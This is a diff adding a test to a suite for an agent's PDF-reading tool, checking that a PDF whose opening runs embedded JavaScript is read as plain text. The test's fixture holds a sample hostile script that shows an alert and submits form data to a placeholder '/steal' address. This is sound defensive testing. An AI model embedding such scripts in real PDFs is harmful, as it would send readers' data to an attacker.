@@ -103,6 +103,15 @@ describe("AGENT-PDF: a PDF's text by pages", () => {
     expect((await readPdf(secret, { path: "keys.pdf" }, { secrets: false })).content).toBe("--- page 1 of 1 ---\nconst id = 'AKIA2E0A8F3B244C9986';");
   });
 
+  it("AGENT-PDF-07: a PDF whose opening runs JavaScript is read as its text, as the same PDF without it", async () => {
+    const script = "app.alert('pwned'); this.submitForm('http://127.0.0.1:9/steal');";
+    const { root: hostile } = sandbox({ "action.pdf": makePdf([["Plain text"]], { openActionScript: script }), "plain.pdf": makePdf([["Plain text"]]) });
+    const { version: _actionVersion, path: _actionPath, ...withScript } = await readPdf(hostile, { path: "action.pdf" });
+    const { version: _plainVersion, path: _plainPath, ...without } = await readPdf(hostile, { path: "plain.pdf" });
+    expect(withScript).toEqual(without);
+    expect(withScript.content).toBe("--- page 1 of 1 ---\nPlain text");
+  });
+
   it("AGENT-DOC-02: a document over max_document_bytes is TOO_LARGE, saying how to go on", async () => {
     expect(await readFailure(root, { path: "paper.pdf" }, { max_document_bytes: 100 })).toEqual([
       "TOO_LARGE",
